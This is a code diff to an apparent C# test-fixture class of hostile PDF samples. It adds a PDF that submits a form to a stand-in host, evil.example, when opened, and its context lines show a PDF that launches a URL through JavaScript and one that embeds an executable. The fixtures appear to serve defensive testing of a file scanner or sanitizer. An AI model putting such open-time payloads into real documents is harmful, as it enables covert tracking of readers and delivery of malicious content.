@@ -138,6 +138,11 @@ public static class HostileFiles
         "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
         "3 0 obj << /S /JavaScript /JS (app.launchURL\\(\"http://evil.example\"\\);) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
 
+    /// <summary>A PDF that, when opened, submits its form to a server (and so tells it who opened it, and when).</summary>
+    public static byte[] PdfSubmittingOnOpen() => Ascii(
+        "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
+        "3 0 obj << /S /SubmitForm /F << /FS /URL /F (http://evil.example/opened) >> /Flags 4 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
+
     /// <summary>A PDF carrying an executable as an embedded file.</summary>
     public static byte[] PdfWithEmbeddedFile() => Ascii(
         "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(readme.exe) 3 0 R] >> >> >> endobj\n" +
